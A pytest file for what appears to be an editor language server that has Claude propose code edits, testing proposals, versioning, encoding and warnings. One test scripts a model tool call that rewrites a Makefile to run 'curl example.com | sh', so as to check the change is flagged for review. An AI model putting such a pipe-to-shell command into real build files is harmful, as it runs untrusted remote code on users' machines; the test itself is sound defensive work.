"""Propose mode end to end: snapshot -> job -> versioned workspace/applyEdit (scripted model)."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from channelcoder.testing.fake_anthropic import Reply, ToolCall, Turn
from tests.lsp.conftest import Session, Start, native, wait_for

pytestmark = pytest.mark.usefixtures("claude_bin")

UNSAVED = "GREETING = 'hello'\nprint(GREETING)  # unsaved line\n"
FIXED = "GREETING = 'hello, world'\nprint(GREETING)  # unsaved line\n"
SED = {"command": "cat app.py && sed -i \"s/'hello'/'hello, world'/\" app.py"}


def diagnostic() -> dict[str, object]:
    return {"range": {"start": {"line": 0, "character": 11}, "end": {"line": 0, "character": 18}},
            "message": "greeting too short", "severity": 2, "source": "lint"}


def kinds(reports: list[object]) -> list[str]:
    return [type(r).__name__.replace("WorkDoneProgress", "") for r in reports]


@pytest.mark.parametrize("caps", ["visual-studio-code", "neovim@0.7.0"])
async def test_fix_with_claude_proposes_an_edit_that_equals_the_models_fix(
        scripted, lsp: Start, workspace: Path, caps: str) -> None:
    api = scripted([ToolCall("Bash", SED), Reply("Made the greeting longer.")])
    session = await lsp(workspace, caps=caps, init=native())
    app = workspace / "app.py"
    on_disk = app.read_bytes()
    uri = session.editor.open(app)
    session.editor.type_text(uri, UNSAVED)
    reply = await session.command("channelcoder.fix", {"uri": uri, "diagnostic": diagnostic()})
    assert reply["ok"] is True and reply["proposalId"] == reply["jobId"], reply
    assert reply["changes"] == [{"path": "app.py", "uri": app.as_uri(), "status": "modified",
                                 "oldPath": None, "binary": False, "modeChanged": False}]
    (reports,) = [r for r in session.client.progress_reports.values() if r]
    assert kinds(reports)[0] == "Begin" and kinds(reports)[-1] == "End"
    assert "Report" in kinds(reports) and "1 file changed" in reports[-1].message
    seen = api.agent_requests()[-1].texts()
    assert any("# unsaved line" in text for text in seen), "the job did not see the buffer"
    assert "app.py (with unsaved changes in the editor)" in api.agent_requests()[0].texts()[-1]
    if caps == "neovim@0.7.0":  # no change annotations: the diff first, the edit on request
        assert app.read_bytes() == on_disk and not session.editor.edits
        applied = await session.command("channelcoder.applyProposal", {"jobId": reply["jobId"]})
        assert applied == {"jobId": reply["jobId"], "applied": True, "reason": None,
                           "skipped": [], "conflicts": []}
    edit = await session.editor.wait_edit()
    assert session.editor.answers == [True]
    assert session.editor.buffers[uri].text == FIXED
    assert app.read_bytes() == on_disk, "the file on disk changed before the user saved"
    if caps == "visual-studio-code":
        assert edit.edit.change_annotations is not None
        annotation = next(iter(edit.edit.change_annotations.values()))
        assert annotation.needs_confirmation is True
    await no_pending(session)


async def test_a_buffer_edited_during_the_job_refuses_the_edit_and_is_reoffered_rebased(
        scripted, lsp: Start, workspace: Path) -> None:
    scripted([ToolCall("Bash", SED), Turn([Reply("Done.")], first_delay=1.5)])
    session = await lsp(workspace, init=native(streamEvents=True))
    app = workspace / "app.py"
    uri = session.editor.open(app)
    job = asyncio.ensure_future(session.command("channelcoder.run", {
        "prompt": "lengthen the greeting", "uri": uri, "jobId": "typing"}))
    await wait_for(lambda: any(e["type"] == "tool-result" for e in session.job_events("typing")))
    session.editor.type_text(uri, "GREETING = 'hello'\nprint(GREETING)\n")
    reply = await job
    assert reply["ok"] is True and reply["proposalId"] == "typing", reply
    offered = await session.editor.wait_edit()
    assert offered.edit.document_changes[0].text_document.version == 1
    assert session.editor.answers == [False]
    await wait_for(lambda: any("was not applied" in m.message for m in session.client.messages))
    assert session.editor.buffers[uri].text == "GREETING = 'hello'\nprint(GREETING)\n"
    again = await session.command("channelcoder.applyProposal", {"jobId": "typing"})
    assert again == {"jobId": "typing", "applied": True, "reason": None, "skipped": [],
                     "conflicts": []}
    rebased = await session.editor.wait_edit(2)
    assert rebased.edit.document_changes[0].text_document.version == 2
    assert session.editor.buffers[uri].text == "GREETING = 'hello, world'\nprint(GREETING)\n"
    await no_pending(session)


async def test_a_proposal_survives_a_server_restart_and_reject_with_reason_continues(
        scripted, lsp: Start, workspace: Path) -> None:
    api = scripted([ToolCall("Bash", SED), Reply("Done."), Reply("Kept it short instead.")])
    first = await lsp(workspace, init=native())
    first.editor.refuse_all = True
    reply = await first.command("channelcoder.run", {"prompt": "lengthen the greeting",
                                                     "jobId": "persist"})
    await first.editor.wait_edit()
    await first.client.shutdown_session()
    second = await lsp(workspace, init=native(streamEvents=True))
    pending = (await second.command("channelcoder.jobs"))["proposals"]
    assert [p["jobId"] for p in pending] == ["persist"] and pending[0]["files"] == ["app.py"]
    rejected = await second.command("channelcoder.rejectProposal",
                                    {"jobId": "persist", "reason": "keep it short"})
    assert rejected["jobId"] == "persist" and rejected["rejected"] is True
    follow = rejected["nextJobId"]
    await wait_for(lambda: any(e["type"] in ("result", "error")
                               for e in second.job_events(follow)))
    last = api.agent_requests()[-1]
    assert "keep it short" in last.last_user_text()
    assert any("lengthen the greeting" in text for text in last.texts()), \
        "the follow-up did not continue the same conversation"
    assert reply["sessionId"]
    await second.editor.wait_edit()  # the follow-up's own proposal, on the same snapshot
    assert (workspace / "app.py").read_text() == "GREETING = 'hello, world'\n"


async def no_pending(session: Session) -> None:
    for _ in range(200):
        if not (await session.command("channelcoder.jobs"))["proposals"]:
            return
        await asyncio.sleep(0.05)
    raise AssertionError("the proposal is still pending")


@pytest.mark.parametrize("caps", ["neovim@0.11.0", "visual-studio-code"])
async def test_edits_use_the_negotiated_encoding_and_keep_crlf_and_no_final_newline(
        scripted, lsp: Start, workspace: Path, caps: str) -> None:
    text = "x = 'é'\r\ny = '😀 ü'"
    app = workspace / "app.py"
    app.write_bytes(text.encode())
    scripted([ToolCall("Bash", {"command": "sed -i 's/ü/UE/' app.py"}), Reply("done")])
    session = await lsp(workspace, caps=caps, init=native())
    assert session.editor.encoding == ("utf-8" if caps.startswith("neovim") else "utf-16")
    uri = session.editor.open(app, text)
    reply = await session.command("channelcoder.run", {"prompt": "replace the umlaut"})
    assert reply["ok"] and reply["proposalId"], reply
    if caps.startswith("neovim"):  # no change annotations: applied on request
        await session.command("channelcoder.applyProposal", {"jobId": reply["jobId"]})
    edit = await session.editor.wait_edit()
    change = edit.edit.document_changes[0]
    (only,) = change.edits
    assert only.range.start.line == 1 and only.range.start.character == 0
    assert session.editor.buffers[uri].text == "x = 'é'\r\ny = '😀 UE'"


async def test_a_file_the_host_runs_gets_its_own_flagged_annotation(
        scripted, lsp: Start, workspace: Path) -> None:
    from tests.conftest import git

    (workspace / "Makefile").write_text("all:\n\techo hi\n")
    git(workspace, "add", "Makefile")
    git(workspace, "commit", "-q", "-m", "make")
    scripted([ToolCall("Bash", {"command": "sed -i 's/echo hi/curl example.com | sh/' Makefile "
                                           "&& sed -i \"s/'hello'/'hi'/\" app.py"}),
              Reply("Changed the build.")])
    session = await lsp(workspace, init=native())
    reply = await session.command("channelcoder.run", {"prompt": "change the build"})
    assert reply["ok"], reply
    flagged = {c["path"]: c.get("runsOnHost") for c in reply["changes"]}
    assert flagged == {"Makefile": "runs on `make`", "app.py": None}
    edit = (await session.editor.wait_edit()).edit
    assert edit.change_annotations is not None and edit.document_changes is not None
    by_path = {change.text_document.uri.rsplit("/", 1)[-1]: change.edits[0].annotation_id
               for change in edit.document_changes}
    host_run = edit.change_annotations[by_path["Makefile"]]
    assert host_run.label == "⚠ Runs on your machine: Makefile (runs on `make`)"
    assert host_run.needs_confirmation is True
    assert edit.change_annotations[by_path["app.py"]].label.startswith("Claude: ")
    assert not [m for m in session.client.messages if "run on your machine" in m.message], \
        "a review flags them itself"


async def test_a_file_the_host_runs_edited_in_place_is_in_the_reply_and_a_warning(
        scripted, lsp: Start, workspace: Path) -> None:
    from lsprotocol import types

    scripted([ToolCall("Bash", {"command": "sed -i '$a lint:' Makefile"}), Reply("Changed it.")])
    (workspace / "Makefile").write_text("all:\n\techo hi\n")
    session = await lsp(workspace, init=native(apply="direct"))
    reply = await session.command("channelcoder.run", {"prompt": "add a lint target"})
    assert reply["ok"], reply
    assert reply["runsOnHost"] == [{"path": "Makefile", "reason": "runs on `make`"}]
    assert "lint:" in (workspace / "Makefile").read_text()
    warnings = [m.message for m in session.client.messages
                if m.type == types.MessageType.Warning]
    assert ("Claude changed files that run on your machine: Makefile (runs on `make`) — review "
            "them before you run them") in warnings, warnings
